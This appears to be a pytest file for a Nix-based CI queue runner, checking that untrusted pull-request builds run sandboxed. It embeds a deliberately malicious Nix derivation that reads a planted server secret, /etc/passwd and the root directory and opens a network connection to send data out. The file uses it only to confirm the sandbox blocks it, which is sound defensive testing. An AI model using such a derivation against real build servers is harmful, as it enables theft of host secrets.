"""Issue 12 (trust): builds of untrusted code run in Nix's sandbox by default.

The attack is a derivation from a pull request's repository: it reads a
world-readable server file planted under /var/lib, the host's /etc/passwd and
the root directory, and opens a TCP connection to a listener on the server's
loopback, recording everything it saw into ``$out``. The real
``circus-queue-runner`` builds it on its defaults: the build succeeds (the
legitimate work is done) but saw none of it. The control runs the same attack
with ``nix.sandbox = false`` and sees all of it, so the test can fail.
"""

from __future__ import annotations

import shutil
import socket
import subprocess
import time
import uuid
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text
from sqlalchemy.orm import Session, sessionmaker

from circus.common.config import load_settings
from circus.common.configbase import ConfigError
from circus.common.enums import BuildStatus
from circus.common.nix.environment import DEFAULT_SANDBOX_PATHS
from tests.agents.conftest import TOKEN_DIGEST, agent_in_own_store, write_agent_config
from tests.helpers.daemons import wait_until
from tests.helpers.net import free_port, wait_for_port
from tests.queue_runner.conftest import runner_config  # noqa: F401 (fixture)
from tests.queue_runner.daemons import runner_daemon
from tests.queue_runner.factories import instantiate, make_builds
from tests.ssh_builders.conftest import SshHost, add_builders, ssh_host, ssh_settings  # noqa: F401

#: the pull request's "build": legitimate work plus everything it can reach of the host
MALICIOUS_DEFAULT_NIX = r"""
{ nonce, secret, port }:
derivation {
  name = "pr-build";
  inherit nonce;
  system = builtins.currentSystem;
  builder = "/bin/sh";
  args = [ "-c" ''
    export PATH=/usr/bin:/bin
    mkdir $out
    echo legit work > $out/result
    cat ${secret} > $out/secret 2>&1 || true
    cat /etc/passwd > $out/passwd 2>&1 || true
    ls -a / > $out/root 2>&1 || true
    python3 -c 'import socket; s = socket.create_connection(("127.0.0.1", ${port}), 3)
    s.sendall(b"exfiltrated"); print("connected")' > $out/network 2>&1 || true
  '' ];
}
"""


@dataclass
class Attack:
    """A planted server secret, a loopback listener and the malicious repository."""

    secret_file: Path
    secret: str
    listener: socket.socket
    repo: Path

    @property
    def port(self) -> int:
        return int(self.listener.getsockname()[1])

    def instantiate(self, env: dict[str, str]) -> str:
        nonce = uuid.uuid4().hex
        return instantiate(["default"], nonce, env, self.repo / "release.nix",
                           {"secret": str(self.secret_file), "port": str(self.port)})["default"]

    def connections(self) -> int:
        """Connections the builds made to the listener (accepted and closed here)."""
        count = 0
        self.listener.settimeout(0.5)
        while True:
            try:
                conn, _ = self.listener.accept()
            except TimeoutError:
                return count
            conn.close()
            count += 1


@pytest.fixture
def attack(tmp_path: Path) -> Iterator[Attack]:
    # world-readable like a server's config under /var/lib/circus, outside every sandbox path
    directory = Path(f"/var/lib/circus-sandbox-test-{uuid.uuid4().hex[:12]}")
    directory.mkdir(mode=0o755)
    directory.chmod(0o755)
    secret = f"circus-server-secret-{uuid.uuid4().hex}"
    secret_file = directory / "circus.toml"
    secret_file.write_text(f'secret_key = "{secret}"\n')
    secret_file.chmod(0o644)
    repo = tmp_path / "pr-repo"
    repo.mkdir()
    (repo / "default.nix").write_text(MALICIOUS_DEFAULT_NIX)
    (repo / "release.nix").write_text(
        "{ nonce, secret, port }: { default = import ./default.nix "
        "{ inherit nonce secret; port = port; }; }\n")
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    try:
        yield Attack(secret_file, secret, listener, repo)
    finally:
        listener.close()
        shutil.rmtree(directory, ignore_errors=True)


def _status(factory: sessionmaker[Session], build_id: int) -> BuildStatus:
    with factory() as session:
        return BuildStatus(session.execute(text("SELECT status FROM builds WHERE id = :i"),
                                           {"i": build_id}).scalar_one())


def _output(factory: sessionmaker[Session], build_id: int) -> Path:
    with factory() as session:
        return Path(session.execute(text("SELECT path FROM build_outputs WHERE build_id = :i"),
                                    {"i": build_id}).scalar_one())


def build_pr(config: dict[str, Any], drv: str, factory: sessionmaker[Session],
             log_dir: Path, workers: int | None = None,
             agent: Callable[[], Any] | None = None) -> tuple[BuildStatus, Path, str]:
    """The real queue runner builds ``drv`` as a pull request's job (``agent``: started
    once the runner is up, it enters a context that keeps an agent running)."""
    with runner_daemon("qr-sandbox", config, log_dir, workers=workers) as daemon, \
            ExitStack() as stack:
        if agent is not None:
            stack.enter_context(agent())
        with factory() as session:
            build = make_builds(session, {"default": drv}, pr_number=7)["default"]
        wait_until(lambda: _status(factory, build.id).is_finished, timeout=90, interval=0.2,
                   message=f"build finished\n{daemon.log()[-3000:]}")
        log = daemon.log()
    return _status(factory, build.id), _output(factory, build.id), log


def assert_sandboxed(attack: Attack, out: Path) -> None:
    assert (out / "result").read_text() == "legit work\n"
    seen = {name: (out / name).read_text() for name in ("secret", "passwd", "root", "network")}
    # the planted server file is not there at all
    assert attack.secret not in "".join(seen.values())
    assert "No such file or directory" in seen["secret"], seen["secret"]
    # /etc is Nix's own (build users only), not the host's
    assert _host_only_passwd_line() not in seen["passwd"], seen["passwd"]
    root = set(seen["root"].split())
    assert not root & {"var", "home", "run", "root", "srv", "work", "opt"}, root
    # no way out: the sandbox's loopback is its own
    assert "connected" not in seen["network"], seen["network"]
    refused = ("ConnectionRefusedError", "Network is unreachable")
    assert any(reason in seen["network"] for reason in refused), seen["network"]
    assert attack.connections() == 0


def assert_not_sandboxed(attack: Attack, out: Path) -> None:
    assert attack.secret in (out / "secret").read_text()
    assert _host_only_passwd_line() in (out / "passwd").read_text()
    assert "var" in (out / "root").read_text().split()
    assert "connected" in (out / "network").read_text()
    assert attack.connections() == 1


def _host_only_passwd_line() -> str:
    """A line of the host's /etc/passwd that Nix's sandbox /etc/passwd never has."""
    for line in Path("/etc/passwd").read_text().splitlines():
        name = line.split(":", 1)[0]
        if name not in ("root", "nixbld", "nobody") and line:
            return line
    raise AssertionError("the host's /etc/passwd has no ordinary entry")


def test_a_pull_request_build_sees_no_server_files_and_no_network(
        attack: Attack, runner_config: Callable[..., dict[str, Any]],  # noqa: F811
        committed_db: sessionmaker[Session], nix_env: dict[str, str], tmp_path: Path) -> None:
    drv = attack.instantiate(nix_env)
    config = runner_config()
    assert "sandbox" not in config["nix"]  # the default is what is tested
    started = time.monotonic()
    status, out, log = build_pr(config, drv, committed_db, tmp_path / "daemon")
    print(f"sandboxed build: {time.monotonic() - started:.1f} s")

    assert status is BuildStatus.succeeded, log[-3000:]
    assert_sandboxed(attack, out)


def test_control_the_same_build_unsandboxed_sees_the_server(
        attack: Attack, runner_config: Callable[..., dict[str, Any]],  # noqa: F811
        committed_db: sessionmaker[Session], nix_env: dict[str, str], tmp_path: Path) -> None:
    drv = attack.instantiate(nix_env)
    started = time.monotonic()
    status, out, log = build_pr(runner_config(nix={"sandbox": False}), drv, committed_db,
                                tmp_path / "daemon")
    print(f"unsandboxed build: {time.monotonic() - started:.1f} s")

    assert status is BuildStatus.succeeded, log[-3000:]
    assert_not_sandboxed(attack, out)


@pytest.mark.parametrize("sandbox", [True, False], ids=["default", "control-unsandboxed"])
def test_an_ssh_builder_builds_the_pull_request_in_the_sandbox(
        sandbox: bool, attack: Attack, runner_config: Callable[..., dict[str, Any]],  # noqa: F811
        ssh_host: Callable[[str], SshHost], committed_db: sessionmaker[Session],  # noqa: F811
        nix_env: dict[str, str], tmp_path: Path) -> None:
    """The runner's ``[nix]`` sandbox reaches Nix on the builder (its NIX_CONFIG)."""
    builder = ssh_host("remote")
    add_builders(committed_db, builder.row())
    drv = attack.instantiate(nix_env)
    config = runner_config(queue_runner=ssh_settings(),
                           nix={} if sandbox else {"sandbox": False})
    status, out, log = build_pr(config, drv, committed_db, tmp_path / "daemon", workers=0)
    assert status is BuildStatus.succeeded, log[-3000:]
    assert builder.has(str(out))  # built there, not here
    (assert_sandboxed if sandbox else assert_not_sandboxed)(attack, out)


@pytest.mark.parametrize("sandbox", [True, False], ids=["default", "control-unsandboxed"])
def test_an_agent_builds_the_pull_request_in_the_sandbox(
        sandbox: bool, attack: Attack, runner_config: Callable[..., dict[str, Any]],  # noqa: F811
        committed_db: sessionmaker[Session], nix_env: dict[str, str], tmp_path: Path) -> None:
    """The agent's own ``sandbox`` setting (default true), not the server's, decides."""
    drv = attack.instantiate(nix_env)
    port = free_port()
    config = runner_config(queue_runner={
        "rpc": {"bind": f"127.0.0.1:{port}", "allow_plaintext": True,
                "auth_tokens": [TOKEN_DIGEST]}, "unsupported_timeout": 30},
        cache={"cache_dir": str(tmp_path / "cache")})
    directory = tmp_path / "agent"

    def agent() -> Any:
        wait_for_port(port, timeout=30)
        extra: dict[str, Any] = {} if sandbox else {"sandbox": False}
        path = write_agent_config(directory, port, name="agent", **extra)
        return agent_in_own_store("agent", directory, path)

    status, out, log = build_pr(config, drv, committed_db, tmp_path / "daemon", workers=0,
                                agent=agent)
    assert status is BuildStatus.succeeded, log[-3000:]
    (assert_sandboxed if sandbox else assert_not_sandboxed)(attack, out)


def test_sandbox_paths_are_validated_with_key_paths(tmp_path: Path) -> None:
    from circus.agent.config import load_agent_settings

    assert load_settings([], {}).nix.sandbox_paths == list(DEFAULT_SANDBOX_PATHS)
    entries = ["/bin", "etc", "/a=/b", "/x=/y z", "/a=rel", "/opt/maybe?"]
    with pytest.raises(ConfigError) as caught:
        load_settings([], {}, {"nix": {"sandbox_paths": entries}})
    paths = [p.path for p in caught.value.problems]
    assert paths == ["nix.sandbox_paths.1", "nix.sandbox_paths.3", "nix.sandbox_paths.4"], \
        caught.value.render()
    assert "absolute" in caught.value.render()
    agent = {"agent": {"runner_url": "tcp://127.0.0.1:1", "auth_token": "t",
                       "sandbox_paths": ["usr/bin"]}}
    with pytest.raises(ConfigError) as caught:
        load_agent_settings([], {}, agent)
    assert [p.path for p in caught.value.problems] == ["agent.sandbox_paths.0"]


def test_the_nix_of_every_build_gets_the_sandbox(tmp_path: Path) -> None:
    """Local builds, SSH builders and agents all get the options from the one seam."""
    from circus.agent.config import load_agent_settings
    from circus.queue_runner.ssh.connection import remote_nix_config

    settings = load_settings([], {})
    local = settings.nix_environ()["NIX_CONFIG"].splitlines()
    assert "sandbox = true" in local
    assert "sandbox-fallback = false" in local
    assert f"sandbox-paths = {' '.join(DEFAULT_SANDBOX_PATHS)}" in local
    remote = remote_nix_config(None, None, settings.nix.sandbox_options()).splitlines()
    assert "sandbox = true" in remote
    agent = load_agent_settings([], {}, {"agent": {"runner_url": "tcp://127.0.0.1:1",
                                                   "auth_token": "t"}}).agent
    assert agent.sandbox is True
    assert agent.sandbox_paths == list(DEFAULT_SANDBOX_PATHS)
    done = subprocess.run(["nix", "show-config"], env=settings.nix_environ(),
                          capture_output=True, text=True, check=True)
    assert "sandbox = true" in done.stdout.splitlines()
